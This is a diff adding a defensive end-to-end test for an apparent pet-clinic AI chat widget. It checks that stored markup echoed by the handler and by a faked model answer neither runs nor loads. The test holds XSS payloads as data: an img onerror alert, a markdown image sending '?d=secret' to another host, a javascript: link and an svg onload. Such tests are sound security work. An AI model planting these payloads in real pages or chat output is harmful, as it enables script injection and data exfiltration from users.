@@ -464,3 +464,55 @@ def test_safe_answers_still_look_like_markdown(browser: CDP, site: Site) -> None
                   f'<img src="{site.origin}/ok.png" alt="a picture">', f"elsewhere ({site.other}/x)"):
         assert piece in html, f"{piece!r} not in {html}"
     assert f"{site.origin}/ok.png" in outcome.requests  # the allowed image did load
+
+
+# ------------------------------------------------------------------ the real handler's answers in the widget
+
+
+def _chatclient(question: str, conversation: str, sub: str | None = None) -> str:
+    """The handler's /chatclient reply, as API Gateway hands it to the widget (a signed-in member of staff
+    when ``sub`` is given)."""
+    import lambda_function
+    from local import run as local_run
+
+    context: dict[str, Any] = {"apiId": "local", "stage": "v1", "identity": {"sourceIp": "198.51.100.7"}}
+    if sub:
+        context["authorizer"] = {"claims": {"sub": sub}}
+    event = {"httpMethod": "POST", "path": "/api/genai/chatclient", "requestContext": context,
+             "headers": {"Content-Type": "application/json",
+                         "Cookie": "__Host-petclinic_genai_conversation=" + local_run.signed_conversation_id(conversation)},
+             "body": json.dumps(question)}
+    response = lambda_function.lambda_handler(event, local_run.FakeContext())
+    assert response["statusCode"] == 200, response["body"]
+    return response["body"]
+
+
+def test_the_handlers_answers_that_repeat_stored_markup_run_nothing(browser: CDP, site: Site,
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """The attack end to end: an owner whose stored first name is markup (written before the write
+    validation refused it), then the function's own proposal and "Done:" texts quoting it, and a model
+    answer repeating it with an image aimed at another host: the widget runs nothing and loads nothing."""
+    from genai import clients, config, model
+    from local import run as local_run
+
+    planted = f'<img src=x onerror=alert(91)> ![x]({site.other}/stored.png?d=secret)'
+    with local_run.local_endpoints(None, memory=True, replace=True) as stack:
+        monkeypatch.setenv("WRITES_ENABLED", "true")
+        monkeypatch.setenv("ANONYMOUS_READ_SCOPE", "all")
+        clients._clients.clear()
+        config._settings = None
+        connection = stack["backend"].connection()
+        cursor = connection.cursor()
+        cursor.execute("UPDATE owners SET first_name = ? WHERE id = 6", (planted,))
+        connection.commit()
+        staff = "0f5a7c1e-2b3d-4e5f-8a9b-0c1d2e3f4a5b"
+        proposal = _chatclient("add pet: owner 6, name Bella, type cat, born 2024-03-01", "xss-1", staff)
+        done = _chatclient("yes", "xss-1", staff)
+        assert "Done:" in done and "Nothing is saved yet" in proposal
+        echoed = model.Answer(f"The owner is {planted} [click](javascript:alert(92)) <svg onload=alert(93)>", False)
+        monkeypatch.setattr(model, "converse_loop", lambda *args, **kwargs: (echoed, args[4] if len(args) > 4 else None))
+        answer = _chatclient("Who owns Bella?", "xss-2")
+        config._settings = None
+    outcome = show(browser, site, [proposal, done, answer])
+    assert_nothing_ran_or_left(outcome, site)
+    assert "onerror=alert(91)" in outcome.text  # shown as text, not dropped
